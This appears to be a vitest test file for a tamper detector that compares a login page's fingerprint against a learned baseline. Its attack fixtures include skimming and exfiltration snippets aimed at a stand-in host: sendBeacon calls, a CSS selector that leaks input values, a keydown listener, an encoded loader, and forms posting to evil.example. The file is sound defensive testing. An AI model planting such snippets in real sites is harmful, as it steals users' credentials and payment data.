import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import {
  comparePage,
  confirmedChanges,
  type Fingerprint,
  learnPage,
  makeFingerprint,
  missingLoads,
  type RawDocument,
  type RawPage,
  repeatedChanges,
  varyingProperties,
  worstOf,
} from '../../src/tamper/index.ts';

const own = 'https://panel.example.com';
const hash = (text: string) => createHash('sha256').update(text).digest('hex');

const document: RawDocument = {
  url: `${own}/login`,
  title: 'Sign in',
  headings: ['Sign in'],
  text: 'Sign in. Help: 03-1234-5678, help@example.com. 2026-11-30 12:34:56',
  forms: [{ method: 'post', action: '/login' }],
  inputs: [
    { type: 'text', name: 'user', label: 'User', inForm: true, autocomplete: 'username' },
    { type: 'password', name: 'password', label: 'Password', inForm: true, autocomplete: '' },
  ],
  scripts: [
    { src: '/assets/app.3f9a1c27.js', text: '', type: 'module', integrity: '' },
    { src: 'https://widget.example.net/w@1.2.3/w.js', text: '', type: '', integrity: 'sha384-abc' },
    { src: '', text: 'window.config = { version: "1.2.3" };', type: '', integrity: '' },
    { src: '', text: '{"@type":"Organization"}', type: 'application/ld+json', integrity: '' },
  ],
  handlers: [],
  links: [
    { href: '/help', isHidden: false },
    { href: 'tel:03-1234-5678', isHidden: false },
  ],
  frames: [],
  base: '',
  refreshes: [],
  policies: [],
  linkTags: [{ rel: 'icon', href: '/favicon.ico' }],
  comments: [],
  styles: [],
  overlays: [],
  structure: 'HTML BODY FORM',
};

const page: RawPage = {
  page: 'sign-in',
  redirects: [],
  headers: [
    {
      name: 'Content-Security-Policy',
      value: "default-src 'self'; script-src 'self' 'nonce-r4nd0m' https://widget.example.net",
    },
    { name: 'Strict-Transport-Security', value: 'max-age=31536000; includeSubDomains' },
    { name: 'X-Frame-Options', value: 'DENY' },
    { name: 'Set-Cookie', value: 'sid=1; Path=/; Secure; HttpOnly; SameSite=Lax' },
  ],
  issuer: 'Example CA',
  documents: [document],
  received: document,
  scripts: [
    { url: `${own}/assets/app.3f9a1c27.js`, text: 'fetch("/api").then(show); // build 17' },
    { url: 'https://widget.example.net/w@1.2.3/w.js', text: 'track("UA-123456-1")' },
  ],
  styles: [{ url: `${own}/app.css`, text: 'body { color: black; background: url(/back.png) }' }],
  requests: [
    { type: 'document', url: `${own}/login` },
    { type: 'script', url: 'https://widget.example.net/w@1.2.3/w.js' },
    { type: 'image', url: 'https://edge-1.cdn.example.org/a.png' },
    { type: 'fetch', url: 'https://stats.example.net/collect?tid=UA-123456-1' },
  ],
  calls: ['listen submit@form'],
  surprises: [],
  pictures: [{ url: `${own}/logo.png`, hash: 'logo' }],
  icon: '<svg xmlns="http://www.w3.org/2000/svg"/>',
  manifest: '{"start_url":"/","scope":"/"}',
  wildcards: ['*.cdn.example.org'],
};

const fingerprint = (raw: RawPage): Fingerprint => makeFingerprint(raw, own, hash);
const withDocument = (changes: Partial<RawDocument>): RawPage => ({
  ...page,
  documents: [{ ...document, ...changes }],
});
const header = (name: string, value: string | undefined): RawPage => ({
  ...page,
  headers: page.headers.flatMap((each) => (each.name !== name ? [each] : value === undefined ? [] : [{ name, value }])),
});
const appScript = (text: string): RawPage => ({
  ...page,
  scripts: page.scripts.map((each, index) => (index === 0 ? { ...each, text } : each)),
});
const [app, widget] = page.scripts;
const learned = learnPage(Array.from({ length: 5 }, () => fingerprint(page)));
const worst = (raw: RawPage, isDeploy = false) => worstOf(comparePage(learned, fingerprint(raw), { isDeploy }));
const evil = 'https://evil.example';

describe('an attack', () => {
  const attacks: readonly (readonly [string, RawPage, 'high' | 'critical'])[] = [
    ['a form to another host', withDocument({ forms: [{ method: 'post', action: `${evil}/login` }] }), 'critical'],
    [
      'a button with another target',
      withDocument({ forms: [...document.forms, { method: 'formaction', action: evil }] }),
      'critical',
    ],
    [
      'a field for a card',
      withDocument({
        inputs: [...document.inputs, { type: 'text', name: 'card-number', label: '', inForm: true, autocomplete: '' }],
      }),
      'critical',
    ],
    [
      'a script of a new host',
      withDocument({ scripts: [...document.scripts, { src: `${evil}/a.js`, text: '', type: '', integrity: '' }] }),
      'critical',
    ],
    ['a beacon in an own script', appScript(`${app?.text}\n;navigator.sendBeacon("${evil}")`), 'high'],
    [
      'a dormant listener of keys',
      appScript(`${app?.text}\n;function f(){document.addEventListener("keydown",g)}`),
      'high',
    ],
    [
      'a loader within the page',
      withDocument({
        scripts: [...document.scripts, { src: '', text: 'new Function(atob("YQ=="))()', type: '', integrity: '' }],
      }),
      'high',
    ],
    ['a picture with code', withDocument({ handlers: [{ tag: 'img', name: 'onerror', code: 'a()' }] }), 'critical'],
    [
      'a socket',
      { ...page, requests: [...page.requests, { type: 'websocket', url: 'wss://evil.example/' }] },
      'critical',
    ],
    [
      'a hidden frame',
      withDocument({ frames: [{ tag: 'iframe', src: evil, isHidden: true, hasText: false }] }),
      'high',
    ],
    ['a refresh', withDocument({ refreshes: [`30;url=${evil}`] }), 'critical'],
    ['a base', withDocument({ base: `${evil}/` }), 'critical'],
    ['a redirect of the page', withDocument({ url: `${evil}/login` }), 'critical'],
    ['words of a defacement', withDocument({ title: 'Hacked by somebody', headings: ['x'] }), 'critical'],
    ['words of a defacement in Japanese', withDocument({ text: 'このサイトは改ざんされました' }), 'critical'],
    ['an overlay with fields', withDocument({ overlays: [{ hasFields: true }] }), 'critical'],
    ['hidden links', withDocument({ links: [...document.links, { href: evil, isHidden: true }] }), 'high'],
    ['no policy', header('Content-Security-Policy', undefined), 'high'],
    ['a policy that allows all', header('Content-Security-Policy', "default-src * 'unsafe-eval'"), 'high'],
    ['a service worker', { ...page, calls: [...page.calls, 'service-worker /sw.js'] }, 'critical'],
    ['a download', { ...page, surprises: [{ kind: 'download', detail: 'blob:x' }] }, 'critical'],
    [
      'a style that reads fields',
      {
        ...page,
        styles: [{ url: `${own}/a.css`, text: 'input[value^="a"] { background: url(https://evil.example/a) }' }],
      },
      'critical',
    ],
    ['another logo', { ...page, pictures: [{ url: `${own}/logo.png`, hash: 'other' }] }, 'high'],
    ['a link with code', withDocument({ handlers: [{ tag: 'a', name: 'href', code: 'javascript:a()' }] }), 'critical'],
    ['another telephone number', withDocument({ text: document.text.replace('5678', '9999') }), 'high'],
    ['a check for automated browsers', appScript(`${app?.text}\n;if(!navigator.webdriver)go()`), 'high'],
    ['a listener on the document', { ...page, calls: [...page.calls, 'listen keydown@document'] }, 'critical'],
    ['an icon with code', { ...page, icon: '<svg><script>a()</script></svg>' }, 'critical'],
    [
      'a new tag in a container',
      {
        ...page,
        scripts: [
          page.scripts[0]!,
          { url: widget?.url ?? '', text: `${widget?.text};load("https://evil.example/t.js")` },
        ],
      },
      'high',
    ],
    ['a comment with code', withDocument({ comments: ['[if IE]><script src=//evil.example></script>'] }), 'high'],
    ['a cookie without its flags', header('Set-Cookie', 'sid=1; Path=/'), 'high'],
    ['another start of the app', { ...page, manifest: `{"start_url":"${evil}/"}` }, 'high'],
    [
      'another account',
      { ...page, requests: page.requests.map((each) => ({ ...each, url: each.url.replace('123456', '999999') })) },
      'high',
    ],
    [
      'something only for plain clients',
      { ...page, received: { ...document, forms: [{ method: 'post', action: evil }] } },
      'critical',
    ],
    [
      'an unchecked script of another host',
      withDocument({ scripts: document.scripts.map((each) => ({ ...each, integrity: '' })) }),
      'critical',
    ],
    ['a weaker HSTS', header('Strict-Transport-Security', 'max-age=60'), 'high'],
    [
      'answers for every origin',
      { ...page, headers: [...page.headers, { name: 'Access-Control-Allow-Origin', value: '*' }] },
      'high',
    ],
    ['another issuer', { ...page, issuer: 'Other CA' }, 'high'],
  ];
  test.for(attacks)('%s is found, also during a deploy', ([, raw, severity]) => {
    expect(worst(raw)).toBe(severity);
    expect(worst(raw, true)).toBe(severity);
  });
});

describe('a change of one’s own', () => {
  const benign: readonly (readonly [string, RawPage])[] = [
    [
      'another date, time and nonce',
      header(
        'Content-Security-Policy',
        "default-src 'self'; script-src 'self' 'nonce-0th3r' https://widget.example.net",
      ),
    ],
    ['another clock', withDocument({ text: document.text.replace('12:34:56', '01:02:03') })],
    [
      'a renamed build',
      withDocument({
        scripts: document.scripts.map((each) => ({ ...each, src: each.src.replace('3f9a1c27', '77aa01bc') })),
      }),
    ],
    ['a new build', appScript('fetch("/api").then(display); // build 18')],
    [
      'a new version of a widget',
      withDocument({
        scripts: document.scripts.map((each) => ({
          ...each,
          src: each.src.replace('1.2.3', '1.3.0'),
          integrity: each.integrity && 'sha384-new',
        })),
      }),
    ],
    [
      'other values of the configuration',
      withDocument({
        scripts: document.scripts.map((each) => ({ ...each, text: each.text.replace('1.2.3', '1.2.4') })),
      }),
    ],
    [
      'white space in a script',
      withDocument({ scripts: document.scripts.map((each) => ({ ...each, text: each.text.replaceAll(' ', '\n ') })) }),
    ],
    ['other text', withDocument({ text: `${document.text} News of today.`, structure: 'HTML BODY DIV FORM' })],
    [
      'a link to another host',
      withDocument({ links: [...document.links, { href: 'https://help.example.org', isHidden: false }] }),
    ],
    ['a raised HSTS', header('Strict-Transport-Security', 'max-age=63072000; includeSubDomains; preload')],
    [
      'another edge of the CDN',
      { ...page, requests: page.requests.map((each) => ({ ...each, url: each.url.replace('edge-1', 'edge-7') })) },
    ],
    [
      'more data',
      withDocument({
        scripts: [...document.scripts, { src: '', text: '{}', type: 'application/ld+json', integrity: '' }],
      }),
    ],
    [
      'what browsers fill in',
      withDocument({ inputs: document.inputs.map((each) => ({ ...each, autocomplete: 'off' })) }),
    ],
    [
      'a hint for an own file',
      withDocument({ linkTags: [...document.linkTags, { rel: 'preload', href: '/font.woff2' }] }),
    ],
    ['another header', { ...page, headers: [...page.headers, { name: 'X-Served-By', value: 'web-2' }] }],
  ];
  test.for(benign)('%s is at most a notice', ([, raw]) => {
    expect(worst(raw) ?? 'notice').toBe('notice');
  });

  test('another title is worth a look, and a notice during a deploy', () => {
    const raw = withDocument({ title: 'Welcome', headings: ['Welcome'] });
    expect([worst(raw), worst(raw, true)]).toEqual(['medium', 'notice']);
  });
});

describe('learning', () => {
  test('needs five loads of two runs', () => {
    const load = (session: string) => ({ fingerprint: fingerprint(page), session });
    expect(missingLoads([load('a'), load('a')])).toEqual({ loads: 3, sessions: 1 });
    expect(missingLoads(['a', 'a', 'a', 'a', 'b'].map(load))).toBeUndefined();
  });

  test('takes what differs each time as chance, unless it is critical', () => {
    const loads = Array.from({ length: 5 }, (_, index) =>
      fingerprint({
        ...withDocument({ headings: [`Hello ${'abcde'[index]}`] }),
        calls: [`listen input@part${'abcde'[index]}`],
      }),
    );
    const varying = learnPage(loads);
    expect(varying.properties.headings?.isVolatile).toBe(true);
    expect(varying.properties.listeners?.isVolatile).toBe(false);
    expect(varyingProperties(varying)).toEqual(['listeners']);
    expect(comparePage(varying, loads[0]!)).toEqual([]);
    expect(worstOf(comparePage(varying, fingerprint({ ...page, calls: ['listen keydown@window'] })))).toBe('critical');
  });

  test('takes a few variants as a set', () => {
    const variant = (heading: string) => fingerprint(withDocument({ headings: [heading] }));
    const varying = learnPage(['A', 'B', 'A', 'B', 'A'].map(variant));
    expect(comparePage(varying, variant('B'))).toEqual([]);
    expect(worstOf(comparePage(varying, variant('C')))).toBe('medium');
  });
});

test('a change counts when a second load confirms it, or at the third time', () => {
  const changes = comparePage(learned, fingerprint({ ...page, issuer: 'Other CA' })).filter(
    ({ kind }) => kind === 'added',
  );
  expect(confirmedChanges(changes, [])).toEqual([]);
  expect(confirmedChanges(changes, changes)).toEqual(changes);
  expect(repeatedChanges([changes, changes])).toEqual([]);
  expect(repeatedChanges([changes, [], changes, changes])).toEqual(changes);
});
